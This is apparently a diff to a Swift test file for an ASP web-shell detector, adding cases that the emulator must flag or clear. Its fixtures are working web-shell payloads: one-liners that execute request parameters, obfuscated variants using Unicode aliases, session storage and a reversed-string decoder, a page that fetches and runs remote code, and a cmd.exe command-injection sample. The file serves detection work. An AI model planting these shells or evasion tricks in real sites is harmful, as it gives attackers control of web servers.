@@ -42,6 +42,15 @@ import Testing
       "JScript's alias",
       "<script runat=server language=javascript>var o = {'f': eval}; o.f(Request.Form('a')+'')</script>"
     ),
+    ("without frames", "if Request(\"a\")<>\"\" then ExecuteGlobal request(\"a\") end if"),
+    (
+      "names of another alphabet",
+      "<%@ language=\"JScript\"%><% var o = {'\u{540D}': Request.Form('a'), '\u{6027}': eval}; o.\u{6027}(o.\u{540D} + ''); %>"
+    ),
+    (
+      "kept and emptied",
+      "<% Session(\"k\") = Request(\"a\")\nIf x Then Session(\"k\") = \"\"\nExecute Session(\"k\") %>"
+    ),
     ("in an image", "GIF89a\u{1}\u{2}<% Eval Request(\"a\") %>"),
     ("mixed case", "<% eXeCuTe(rEqUeSt(\"a\")) %>"),
     ("comment with a quote", "<% ' it's\nEval Request(\"a\") %>"),
@@ -135,5 +144,70 @@ import Testing
     #expect(
       Self.strong([0, 1, 0, 0] + Array("Standard Jet DB".utf8) + [0, 7, 9] + wide + [1, 2, 3]) == [.taintedCode])
     #expect(Self.strong("<%@ codepage=65000 %>+ADwAJQ- Eval Request(+ACI-a+ACI-) +ACUAPg-") == [.taintedCode])
+  }
+
+  static func all(_ page: String) -> Set<Predicate> {
+    Set(ASPEmulator().run(Array(page.utf8), context: EmulationContext(path: "/www/x.asp")).proofs.map(\.predicate))
+  }
+
+  @Test func evalUnderAnotherNameIsHidden() {
+    let page = "<script runat=server language=javascript>var o = {'E': eval}; o.E(unescape(x.y) + '');</script>"
+    #expect(Self.strong(page) == [.hiddenCall])
+    #expect(!Self.strong("<%@ language=\"JScript\"%><% eval(x.y); %>").contains(.hiddenCall))
+  }
+
+  @Test func codeOfAHiddenAddressIsNoUpdate() {
+    func page(_ address: String) -> String {
+      "<% Set h = CreateObject(\"MSXML2.ServerXMLHTTP.3.0\")\nh.open \"GET\", \(address), False\nh.send\nExecute h.responseText %>"
+    }
+    #expect(Self.all(page("\"http://a.example/x\"")) == [.remoteCode])
+    #expect(Self.strong(page("Chr(104) & Chr(116) & \"tp://a.example/x\"")) == [.derivedCode])
+  }
+
+  @Test(arguments: [
+    ("anywhere", "<% Set f = fs.GetFolder(Request(\"d\")) %>", false),
+    (
+      "anywhere",
+      "<% Set fs = CreateObject(\"Scripting.FileSystemObject\")\nFor Each x In fs.GetFolder(Request(\"d\")).Files\nNext %>",
+      true
+    ),
+    (
+      "within the site",
+      "<% Set fs = CreateObject(\"Scripting.FileSystemObject\")\nSet f = fs.GetFolder(Server.MapPath(Request(\"d\"))) %>",
+      false
+    ),
+  ])
+  func listingOfAnyFolder(_ name: String, _ page: String, _ isProven: Bool) {
+    #expect(Self.all(page).contains(.taintedListing) == isProven, "\(name)")
+  }
+
+  @Test func ownProgramsAreNoShell() {
+    func page(_ command: String) -> String {
+      "<% Set s = CreateObject(\"WScript.Shell\")\ns.Run Server.MapPath(\"/bin\") & \(command), 1, False %>"
+    }
+    #expect(Self.strong(page("\"\\convert.exe -i \" & id")).isEmpty)
+    #expect(Self.strong(page("\"\\cmd.exe /c \" & id")) == [.commandComponent])
+  }
+
+  /// A decoder that walks backwards over more than the time allows: what it has made by then is looked at.
+  @Test func unfinishedDecodersAreLookedAt() {
+    let code = String(repeating: "' a line of padding\n", count: 4_000) + "Execute Request(\"a\")\n"
+    let replaced = code.reversed().map { $0 == "\n" ? "~" : $0 == "\"" ? "`" : $0 }
+    let coded = String(replaced)
+    let page = """
+      <% c = "\(coded)"
+      For i = 1 To Len(c)
+      t = Mid(c, i, 1)
+      If t = "~" Then t = vbLf
+      If t = "`" Then t = Chr(34)
+      r = t & r
+      Next
+      Execute r %>
+      """
+    var budget = EmulationBudget()
+    budget.steps = 20_000
+    let result = ASPEmulator(budget: budget).run(Array(page.utf8), context: EmulationContext(path: "/www/x.asp"))
+    #expect(result.limits.contains(.steps))
+    #expect(result.proofs.contains { $0.predicate == .taintedCode })
   }
 }
